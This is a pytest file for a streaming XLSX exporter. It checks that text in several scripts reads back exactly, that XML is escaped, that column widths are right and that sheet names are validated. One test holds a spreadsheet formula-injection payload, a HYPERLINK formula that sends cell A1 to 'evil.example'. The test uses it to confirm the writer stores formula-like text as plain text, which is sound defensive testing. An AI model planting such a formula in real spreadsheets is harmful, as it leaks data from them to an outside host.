"""The streaming XLSX writer: what it writes reads back (openpyxl) exactly, in any script."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl  # type: ignore[import-untyped]
import pytest

from bot.export import xlsx as xs
from bot.export.xlsx import (
    STYLE_HEADER,
    STYLE_TOP,
    STYLE_TOP_QUOTED,
    STYLE_WRAP,
    XlsxStream,
    column_letter,
    excel_width,
    number_cell,
    text_cell,
    xml_text,
)

LONG = ('He said: "wait, wait", then nothing; "why?"\nӘкем "оқуға" апарылды.\n\n'
        '他被带到"职业技能教育培训中心"。ئۇ 2018-يىلى تۇتقۇن قىلىندى\r\n') * 40
LONG = LONG[:3999] + "."
TEXTS = ["Нұрлан Сейітұлы", "王小明", "ئابدۇللا ئەھمەت", LONG, " lead & <trail> ",
         "bell\x07 and tab\tend\n", "<r><t>x</t></r>", "_x0041_", "a\x00b\x1fc"]


def _book(tmp_path: Path, rows: list[list[str | int | None]]) -> Path:
    path = tmp_path / "t.xlsx"
    with path.open("wb") as fh:
        book = XlsxStream(fh, title="Cases & more", description="a <test>")
        sheet = book.add_sheet("Cases", columns=3, widths=[10, 20, 60], freeze_header=True,
                               autofilter=True)
        sheet.write_row(["name", "value", "note"], STYLE_HEADER)
        for row in rows:
            sheet.write_row(row, STYLE_TOP)
        sheet.close()
        other = book.add_sheet("Columns", columns=2, rows_hint=2, widths=[5, 5])
        other.write_row(["a", "b"], STYLE_HEADER)
        other.write_row(["c", 4])
        book.close()
    return path


def test_text_in_any_script_reads_back_exactly(tmp_path: Path) -> None:
    rows: list[list[str | int | None]] = [[f"r{i}", t, None] for i, t in enumerate(TEXTS)]
    rows.append(["n", 777, "x"])
    path = _book(tmp_path, rows)
    wb = openpyxl.load_workbook(path)
    ws = wb["Cases"]
    assert [c.value for c in ws[1]] == ["name", "value", "note"]
    assert ws["A1"].font.b and ws["A1"].fill.fgColor.rgb == "FFDDEBF7"
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:C{len(rows) + 1}"
    got = [ws.cell(row=i + 2, column=2).value for i in range(len(TEXTS))]
    # openpyxl leaves Excel's _xHHHH_ escapes as they are (Excel shows the character).
    want = [t.replace("_x0041_", "_x005F_x0041_").replace("\x07", "_x0007_")
            .replace("\r", "_x000D_").replace("\x00", "_x0000_").replace("\x1f", "_x001F_")
            for t in TEXTS]
    assert got == want
    assert got[3].count("\n") == LONG.count("\n") and len(LONG) == 4000
    assert ws.cell(row=len(rows) + 1, column=2).value == 777
    assert ws.cell(row=2, column=3).value is None
    assert all(ws.cell(row=i + 2, column=2).data_type == "s" for i in range(len(TEXTS)))
    widths = {k: d.width for k, d in ws.column_dimensions.items()}
    assert widths["A"] == pytest.approx(10.71, abs=0.01)
    assert widths["C"] == pytest.approx(60.71, abs=0.01)
    assert wb["Columns"]["B2"].value == 4
    assert wb.properties.title == "Cases & more"
    ro = openpyxl.load_workbook(path, read_only=True)
    assert len(list(ro["Cases"].iter_rows(values_only=True))) == len(rows) + 1
    ro.close()


def test_formula_looking_text_stays_text_with_the_quote_prefix(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    path = tmp_path / "f.xlsx"
    with path.open("wb") as fh:
        book = XlsxStream(fh)
        sheet = book.add_sheet("S", columns=2)
        xml = (f'<row r="1">{text_cell("A1", STYLE_TOP_QUOTED, formula)}'
               f'{text_cell("B1", STYLE_WRAP, "+77011234567")}</row>')
        sheet.write_xml(xml.encode(), 1)
        book.close()
    ws = openpyxl.load_workbook(path)["S"]
    assert ws["A1"].value == formula and ws["A1"].data_type == "s" and ws["A1"].quotePrefix
    assert ws["B1"].value == "+77011234567" and ws["B1"].alignment.wrap_text
    with zipfile.ZipFile(path) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"&amp;A1" in sheet_xml


def test_cells_and_escaping_as_xlsxwriter_writes_them() -> None:
    assert xml_text("a & b <c>") == "a &amp; b &lt;c&gt;"
    assert xml_text("_x0041_ \x07") == "_x005F_x0041_ _x0007_"
    assert xml_text("plain Қ 王") == "plain Қ 王"
    assert text_cell("B7", 2, " x") == ('<c r="B7" s="2" t="inlineStr"><is>'
                                        '<t xml:space="preserve"> x</t></is></c>')
    assert text_cell("A1", 0, "x") == '<c r="A1" t="inlineStr"><is><t>x</t></is></c>'
    assert number_cell("C3", 2, 777) == '<c r="C3" s="2"><v>777</v></c>'
    assert [column_letter(c) for c in (0, 25, 26, 52, 701, 702)] == [
        "A", "Z", "AA", "BA", "ZZ", "AAA"]
    with pytest.raises(ValueError):
        column_letter(xs.MAX_COLS)
    # The stored widths xlsxwriter gives for set_column(width).
    assert [excel_width(w) for w in (13, 60, 0.5)] == [13.7109375, 60.7109375, 0.5]


def test_sheets_one_at_a_time_and_names_checked() -> None:
    book = XlsxStream(io.BytesIO())
    sheet = book.add_sheet("A", columns=1)
    with pytest.raises(RuntimeError):
        book.add_sheet("B", columns=1)
    sheet.close()
    with pytest.raises(ValueError):
        book.add_sheet("bad/name", columns=1)
    book.close()


def test_an_aborted_book_writes_nothing_more(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    with path.open("wb") as fh:
        book = XlsxStream(fh)
        sheet = book.add_sheet("A", columns=1)
        sheet.write_row(["x"])
        book.abort()
        size = fh.tell()
    assert path.stat().st_size == size
    book.close()  # a no-op now
